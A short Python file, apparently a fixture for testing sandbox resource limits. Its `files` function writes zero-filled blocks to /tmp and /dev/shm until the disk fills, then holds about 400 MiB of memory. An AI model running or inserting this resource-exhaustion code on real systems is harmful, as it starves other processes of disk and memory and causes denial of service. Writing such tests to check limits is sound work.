def one():
    return 1


def files(x):
    for place in ("/tmp/fill", "/dev/shm/fill"):
        try:
            with open(place, "wb") as file:
                while True:
                    file.write(bytes(2**20))
        except OSError:
            pass
    hoard = [bytearray(b"x" * 2**20) for _ in range(400)]
    return hoard
